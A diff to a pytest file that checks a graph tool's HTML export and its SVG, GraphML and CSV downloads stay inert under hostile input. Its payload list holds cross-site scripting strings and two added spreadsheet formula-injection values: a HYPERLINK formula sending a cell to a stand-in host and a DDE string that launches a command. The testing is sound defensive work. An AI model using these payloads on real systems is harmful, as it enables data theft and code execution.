@@ -2,14 +2,19 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import xml.etree.ElementTree as ElementTree
 from collections.abc import Callable
 from dataclasses import replace
+from pathlib import Path
 from typing import Any
 
+import networkx
 import pytest
 
 from duograph.export.html import to_html
-from duograph.records import Corpus
+from duograph.records import Corpus, Provenance
 from sample_corpus import story
 
 PAYLOADS = (
@@ -27,6 +32,8 @@ PAYLOADS = (
     "\u2028\u2029\u0000\u0008\u202e",
     "\\u003cscript>window.ran=1</script>\\",
     "javascript:window.ran=1",
+    '=HYPERLINK("https://example.invalid/"&A1)',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
     "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
 )
 
@@ -81,7 +88,51 @@ def hostile(payload: str) -> Corpus:
         replace(d, first=rename[d.first], second=rename[d.second], evidence_for=(payload,), evidence_against=(payload,))
         for d in corpus.doubts
     )
-    return Corpus(documents=documents, entities=entities, events=events, conflicts=conflicts, doubts=doubts)
+    return Corpus(
+        documents=documents,
+        entities=entities,
+        events=events,
+        conflicts=conflicts,
+        doubts=doubts,
+        provenance=Provenance(
+            version=payload,
+            texts=tuple((payload, payload) for _ in documents),
+            decisions=payload,
+            decided=1,
+            entities=payload,
+            filters=(("who", payload),),
+        ),
+    )
+
+
+ALIVE = ("script", "foreignObject", "iframe", "image", "a", "style", "use", "animate", "set")
+"""Elements of SVG by which something could run or be asked for."""
+
+
+@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
+def test_what_is_taken_from_a_hostile_page_is_whole_and_dead(open_page: Open, payload: str) -> None:
+    opened = open_page(to_html(hostile(payload), title=payload), "#lang=en&sel=!ev-012")
+    svg = ElementTree.fromstring(download(opened, "save-svg"))
+    names = {element.tag.rpartition("}")[2] for element in svg.iter()}
+    assert not names & set(ALIVE)
+    assert not [key for element in svg.iter() for key in element.attrib if key.lower().startswith(("on", "href"))]
+    assert download(opened, "save-png").startswith(b"\x89PNG")
+    graph = networkx.read_graphml(
+        io.BytesIO(download(opened, "save-graphml")), force_multigraph=True, edge_key_type=str
+    )
+    assert graph.number_of_edges() == 114
+    rows = list(csv.reader(io.StringIO(download(opened, "save-csv").decode("utf-8-sig"), newline="")))
+    assert len(rows) == 115
+    assert {len(row) for row in rows} == {len(rows[0])}
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert opened.page.evaluate("window.ran") is None
+
+
+def download(opened: Any, button: str) -> bytes:
+    opened.page.click("#downloads summary")
+    with opened.page.expect_download(timeout=20_000) as waiting:
+        opened.page.click(f"#{button}")
+    return Path(waiting.value.path()).read_bytes()
 
 
 @pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
@@ -100,6 +151,8 @@ def test_nothing_of_a_hostile_text_runs(open_page: Open, payload: str) -> None:
     page.keyboard.press("Escape")
     page.click("#route-button")
     page.wait_for_timeout(50)
+    page.keyboard.press("Escape")
+    assert page.locator("#panel .provenance").is_visible()
     assert page.evaluate("window.ran") is None
     assert "0" not in page.inner_text("#count").split()
     outward = page.eval_on_selector_all("a[href]", "links => links.map((a) => a.protocol)")
